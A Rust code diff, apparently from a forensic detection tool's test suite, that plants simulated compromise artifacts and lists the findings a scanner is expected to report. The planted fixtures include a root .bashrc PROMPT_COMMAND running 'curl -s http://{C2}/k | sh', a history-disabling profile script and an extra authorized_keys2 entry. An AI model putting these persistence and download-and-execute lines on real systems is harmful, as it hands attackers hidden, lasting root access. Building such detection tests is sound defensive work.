@@ -731,6 +731,24 @@ fn plant(d: Distro, root: &Path) {
         ),
     );
 
+    // Code run at every root prompt (T1546.004), history switched off for every login shell,
+    // and a second key file sshd reads by default (`.ssh/authorized_keys2`).
+    append(
+        root,
+        "root/.bashrc",
+        &format!("export PROMPT_COMMAND=\"history -a; curl -s http://{C2}/k | sh\"\n"),
+    );
+    write(
+        root,
+        "etc/profile.d/sysinit.sh",
+        "unset HISTFILE\nexport HISTSIZE=0\n",
+    );
+    write(
+        root,
+        "root/.ssh/authorized_keys2",
+        ed25519_key(93, "root@localhost"),
+    );
+
     // Logs: 500 failures from one source, then its successful login; account creation; the
     // cron job running; the rootkit loading.
     let (auth, sys, kern, cron) = log_names(d);
@@ -1036,6 +1054,24 @@ fn expectations(d: Distro, wipe_auth: bool) -> Vec<Expect> {
             "HISTFILE=/dev/null in .bashrc",
             "history.startup-suppressed",
             ".bashrc",
+            Medium,
+        ),
+        expect(
+            "PROMPT_COMMAND curl|sh in root's .bashrc",
+            "persistence.profile-download-exec",
+            "/root/.bashrc",
+            High,
+        ),
+        expect(
+            "unset HISTFILE in /etc/profile.d",
+            "history.startup-suppressed",
+            "/etc/profile.d/sysinit.sh",
+            Medium,
+        ),
+        expect(
+            "key in root's authorized_keys2",
+            "persistence.authorized-keys-unusual-file",
+            "/root/.ssh/authorized_keys2",
             Medium,
         ),
         expect(
